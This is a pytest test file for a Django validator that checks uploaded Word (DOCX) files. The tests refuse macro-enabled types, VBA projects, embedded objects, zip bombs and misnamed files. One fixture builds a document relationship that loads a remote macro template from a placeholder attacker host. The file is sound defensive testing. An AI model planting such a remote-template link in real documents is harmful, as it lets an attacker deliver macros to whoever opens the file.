"""Uploaded Word documents (DOCX, sent with a working paper): judged by content; macros and remote parts refused."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from ccm_portal.uploads import validate_docx_upload
from tests.conftest import make_pdf_bytes

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
MAIN = '<Override PartName="/word/document.xml" ContentType="application/vnd.{}.main+xml"/>'
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)


def docx(*, main_type="openxmlformats-officedocument.wordprocessingml.document", parts=None, rels="") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", TYPES.format(MAIN.format(main_type)))
        package.writestr("word/document.xml", "<w:document><w:body><w:p/></w:body></w:document>")
        package.writestr("word/_rels/document.xml.rels", RELS.format(rels))
        for name, content in (parts or {}).items():
            package.writestr(name, content)
    return buffer.getvalue()


def upload(content: bytes, name="paper.docx"):
    return SimpleUploadedFile(name, content)


def refusal(content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        validate_docx_upload(upload(content))
    return caught.value


def test_a_plain_word_document_is_accepted():
    validate_docx_upload(upload(docx()))


def test_a_pdf_named_docx_is_refused():
    assert refusal(make_pdf_bytes()).code == "not_docx"


def test_a_zip_that_is_not_a_word_document_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("readme.txt", "hello")
    assert refusal(buffer.getvalue()).code == "not_docx"


def test_a_macro_enabled_document_is_refused():
    error = refusal(docx(main_type="ms-word.document.macroEnabled"))
    assert error.code == "active"
    assert "macro-enabled" in error.messages[0]


def test_a_document_with_a_vba_project_is_refused():
    assert refusal(docx(parts={"word/vbaProject.bin": b"\x00" * 64})).code == "active"


def test_a_document_with_embedded_objects_is_refused():
    assert refusal(docx(parts={"word/embeddings/oleObject1.bin": b"\x00" * 64})).code == "active"


def test_a_document_that_loads_a_remote_template_is_refused():
    remote = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    error = refusal(docx(parts={"word/_rels/settings.xml.rels": RELS.format(remote)}))
    assert error.code == "active"
    assert "from elsewhere" in error.messages[0]


def test_an_ordinary_external_hyperlink_is_accepted():
    link = (
        '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink" Target="https://www.clusterconvention.org/" TargetMode="External"/>'
    )
    validate_docx_upload(upload(docx(rels=link)))


def test_a_package_declaring_a_huge_unpacked_size_is_refused(settings):
    settings.MAX_PDF_DECODED_BYTES = 1000
    assert refusal(docx(parts={"word/media/big.txt": "x" * 5000})).code == "bomb"


def test_an_empty_or_oversized_file_is_refused(settings):
    assert refusal(b"").code == "empty"
    settings.MAX_UPLOAD_BYTES = 100
    assert refusal(docx()).code == "too_large"
